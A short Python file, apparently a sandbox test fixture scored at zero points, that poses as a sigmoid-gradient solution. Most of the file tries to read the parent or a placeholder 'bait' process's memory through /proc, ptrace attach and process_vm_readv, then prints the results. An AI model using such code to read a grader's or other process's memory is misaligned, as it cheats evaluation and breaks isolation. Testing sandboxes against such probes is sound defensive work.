# points: 0
# ruff: noqa

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def grab(pid):
    yield lambda: open(f"/proc/{pid}/mem", "rb").read(1)
    yield lambda: open(f"/proc/{pid}/maps").read()
    yield lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR)
    if libc.fopen(f"/proc/{pid}/maps".encode(), b"r"):
        yield lambda: "opened"
    if not libc.ptrace(16, pid, 0, 0):
        yield lambda: "traced"
    memory = ctypes.create_string_buffer(64)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(memory), 64)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
        yield lambda: memory.raw


parent = os.getppid() if os.getppid() > 1 else int("@BAIT@")
for pid in (parent, int("@BAIT@")):
    for read in grab(pid):
        try:
            got = read()
        except OSError:
            continue
        print(got)
        sigmoid_gradient = lambda z: 1 / (2 + 2 * __import__("numpy").cosh(z))
